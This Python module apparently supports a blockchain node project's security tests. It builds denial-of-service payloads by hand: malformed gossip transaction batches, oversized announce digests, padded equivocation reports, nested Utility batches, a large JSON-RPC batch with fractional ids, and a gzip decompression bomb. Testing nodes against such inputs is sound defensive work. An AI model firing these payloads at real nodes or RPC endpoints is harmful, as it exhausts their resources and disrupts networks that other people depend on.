"""The bytes of attacks, written by hand where our own codecs do not encode them."""

from __future__ import annotations

import json
import os
import zlib
from typing import Final

from btt_chain.crypto.keypair import KeyPair
from btt_chain.primitives.account import AccountId, Id, Sr25519Signature
from btt_chain.primitives.digest import H256
from btt_chain.primitives.era import Immortal
from btt_chain.primitives.extrinsic import bare, opaque, signed, signing_payload
from btt_chain.primitives.limits import MAX_DIGEST_BYTES, MAX_LOGS
from btt_chain.scale import compact_encode, u32, u64, u128
from p2p.network import ANNOUNCE, GOSSIP_BYTES, MIB
from p2p.protocols.messages import MAX_TX
from runtime import BttRuntime
from runtime.extensions import IMPLICIT, SIGNED_EXTRA, Implicit, MetadataHashMode, SignedExtra
from runtime.params import RuntimeParams

BATCH_ITEMS: Final = MAX_TX
"""Transactions in one gossip message, the most that are read; 4,096 when D2 was found."""
ITEM_BYTES: Final = 14
"""Bytes of each, its own length in front, so that a message stays below 64 KiB."""
EMPTY_LOG: Final = b"\x08"
"""A digest item of one byte: RuntimeEnvironmentUpdated."""
DIGITS_MB: Final = 2


# --- gossip -----------------------------------------------------------------------


def tx_batch(transactions: list[bytes]) -> bytes:
    """Return the payload of a `tx` message."""
    return compact_encode(len(transactions)) + b"".join(
        compact_encode(len(wire)) + wire for wire in transactions
    )


def malformed_batch() -> bytes:
    """Return a batch of transactions whose envelope cannot be read, never the same twice."""
    room = ITEM_BYTES - 2
    raw = os.urandom(BATCH_ITEMS * room)
    return tx_batch([opaque(b"\x84" + raw[at : at + room]) for at in range(0, len(raw), room)])


def bare_batch(call: bytes) -> bytes:
    """Return a batch of transactions without a signature: `call` with bytes behind it."""
    room = ITEM_BYTES - 2 - len(call) - 1
    raw = os.urandom(BATCH_ITEMS * room)
    head = call + compact_encode(room)
    return tx_batch([opaque(bare(head + raw[at : at + room])) for at in range(0, len(raw), room)])


def inherent_batch(call: bytes) -> bytes:
    """Return a batch of transactions that only a block's author may make, as Timestamp.set."""
    return tx_batch([opaque(bare(call + _moment())) for _ in range(BATCH_ITEMS)])


def _moment() -> bytes:
    # compact form of 8 bytes: mode 3, four more than the least length
    return b"\x13" + os.urandom(7) + b"\x01"


def full_header(number: int, items: int, parent: bytes | None = None) -> bytes:
    """Return a header with so many digest items of one byte each."""
    return (
        (parent or os.urandom(32))
        + compact_encode(number)
        + os.urandom(64)
        + compact_encode(items)
        + EMPTY_LOG * items
    )


def full_announce(number: int) -> bytes:
    """Return an `announce` message within all limits whose digest is as large as they allow."""
    head = os.urandom(32) + compact_encode(number) + os.urandom(64) + compact_encode(MAX_LOGS)
    room = min(MAX_DIGEST_BYTES, GOSSIP_BYTES[ANNOUNCE] - len(head) - 1) // MAX_LOGS
    log = b"\x00" + compact_encode(room - 3) + bytes(room - 3)
    return head + log * MAX_LOGS + b"\x00"


def announce(number: int, items: int) -> bytes:
    """Return the payload of an `announce` message with so many digest items."""
    return full_header(number, items) + b"\x00"


# --- transactions -----------------------------------------------------------------


class Signer:
    """Signs any bytes as a call."""

    def __init__(self, uri: str, genesis: bytes, slot_ms: int, nonce: int) -> None:
        self.pair = KeyPair.from_uri(uri)
        self.runtime = BttRuntime(RuntimeParams(u64(slot_ms)))
        self.nonce = nonce
        version = self.runtime.version
        first = H256(genesis)
        self._implicit = IMPLICIT.encode(
            Implicit(version.spec_version, version.transaction_version, first, first, None)
        )

    @property
    def account(self) -> AccountId:
        return AccountId(self.pair.account_id)

    def index(self, pallet: str, name: str) -> bytes:
        """The two bytes that a call begins with."""
        return call_index(self.runtime, pallet, name)

    def sign(self, call: bytes, nonce: int | None = None) -> bytes:
        """Return an extrinsic with its length in front."""
        if nonce is None:
            nonce, self.nonce = self.nonce, self.nonce + 1
        extra = SIGNED_EXTRA.encode(
            SignedExtra(Immortal(), u32(nonce), u128(0), MetadataHashMode.Disabled)
        )
        proof = self.pair.sign(signing_payload(call, extra, self._implicit))
        return opaque(signed(Id(self.account), Sr25519Signature(proof), extra, call))


def call_index(runtime: BttRuntime, pallet: str, name: str) -> bytes:
    """Return the two bytes that a call begins with."""
    target = runtime.pallet_named(pallet)
    entry = next(entry for entry in target.CALLS.values() if entry.name == name)
    return bytes((target.index, entry.index))


def report_with_nodes(index: bytes, size: int) -> bytes:
    """Return Babe.report_equivocation with `size` empty trie nodes, a byte each."""
    headers = full_header(1, 0) + full_header(1, 0)
    membership = u32_bytes(0) + compact_encode(size) + bytes(size) + u32_bytes(4)
    return index + os.urandom(32) + bytes(8) + headers + membership


def report_with_logs(index: bytes, size: int) -> bytes:
    """Return Babe.report_equivocation whose headers have `size` digest items in all."""
    headers = full_header(1, size // 2) + full_header(1, size // 2)
    membership = u32_bytes(0) + compact_encode(0) + u32_bytes(4)
    return index + os.urandom(32) + bytes(8) + headers + membership


def nested_batches(batch: bytes, remark: bytes, outer: int = 4, inner: int = 999) -> bytes:
    """Return Utility.batch of `outer` batches of `inner` empty remarks."""
    one = batch + compact_encode(inner) + (remark + b"\x00") * inner
    return batch + compact_encode(outer) + one * outer


def u32_bytes(value: int) -> bytes:
    return value.to_bytes(4, "little")


# --- RPC --------------------------------------------------------------------------


def fractional_batch(size: int = DIGITS_MB * MIB, calls: int = 100) -> bytes:
    """Return a batch of calls whose ids are fractions, padded with integers to `size` bytes."""
    pad = "[" + ",".join("1" * (size // calls // 2)) + "]"
    each = '{"jsonrpc":"2.0","id":%s.5,"method":"system_name","params":' + pad + "}"
    return ("[" + ",".join(each % number for number in range(calls)) + "]").encode()


def state_call(function: str, argument: bytes) -> bytes:
    """Return the request that calls a function of the runtime."""
    return json.dumps(
        {"jsonrpc": "2.0", "id": 1, "method": "state_call",
         "params": [function, "0x" + argument.hex()]}
    ).encode()  # fmt: skip


def bomb(inflated: int) -> bytes:
    """Return a gzip body of blanks that inflates to `inflated` bytes, a thousand times its size."""
    piece = 16 * MIB
    press = zlib.compressobj(9, zlib.DEFLATED, 31)
    blank = b" " * piece
    head = press.compress(blank) + press.flush(zlib.Z_FULL_FLUSH)
    repeated = press.compress(blank) + press.flush(zlib.Z_FULL_FLUSH)
    # After a full flush the same input gives the same output.
    return head + repeated * max(0, inflated // piece - 1)
